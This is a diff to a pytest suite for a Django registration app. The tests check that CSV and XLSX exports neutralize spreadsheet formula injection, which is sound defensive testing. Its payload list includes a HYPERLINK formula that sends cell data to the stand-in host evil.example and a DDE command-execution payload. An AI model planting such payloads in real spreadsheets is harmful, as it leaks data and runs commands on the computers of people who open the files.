@@ -7,10 +7,15 @@ import pytest
 from django.urls import reverse
 from openpyxl import load_workbook
 
-from registration.exports import FORMULA_PREFIXES, neutralize
+from registration.exports import neutralize
 from tests.factories import DelegationFactory, ParticipantFactory
 
 pytestmark = pytest.mark.django_db
+
+# The test's own list of the first characters that make a spreadsheet read a cell as a formula (OWASP "CSV
+# Injection": = + - @ tab, carriage return; line feed too, which some spreadsheets skip before a formula).
+# Deliberately not imported from registration.exports: the code's list must not be its own oracle.
+DANGEROUS_STARTS = ("=", "+", "-", "@", "\t", "\r", "\n")
 
 PAYLOADS = ["=1+2", "+SUM(A1:A2)", "-2+3", "@SUM(A1)", "\t=1+2", "\r=1+2", "\n=1+2",
             "=HYPERLINK(\"http://evil.example/?\"&A1,\"x\")", "=cmd|' /C calc'!A0"]
@@ -21,11 +26,15 @@ def test_neutralize_prefixes_every_formula_start(payload):
     assert neutralize(payload) == "'" + payload
 
 
+@pytest.mark.parametrize("start", DANGEROUS_STARTS)
+def test_neutralize_prefixes_each_dangerous_first_character(start):
+    assert neutralize(start + "x") == "'" + start + "x"
+
+
 def test_neutralize_leaves_text_numbers_and_arabic_alone():
     assert neutralize("Amina Haddad") == "Amina Haddad"
     assert neutralize("أحمد") == "أحمد"
     assert neutralize(42) == 42
-    assert set(FORMULA_PREFIXES) >= {"=", "+", "-", "@", "\t", "\r"}
 
 
 @pytest.mark.parametrize("fmt", ["csv", "xlsx"])
@@ -46,7 +55,7 @@ def test_export_cells_never_start_a_formula(admin_client, fmt):
         sheet = load_workbook(io.BytesIO(response.content)).worksheets[0]
         assert all(cell.data_type != "f" for row in sheet.iter_rows() for cell in row)
         cells = [cell.value for row in sheet.iter_rows(min_row=2) for cell in row if isinstance(cell.value, str)]
-    dangerous = [cell for cell in cells if cell and cell.startswith(FORMULA_PREFIXES)]
+    dangerous = [cell for cell in cells if cell and cell.startswith(DANGEROUS_STARTS)]
     assert dangerous == []
     for payload in PAYLOADS:
         if fmt == "xlsx":
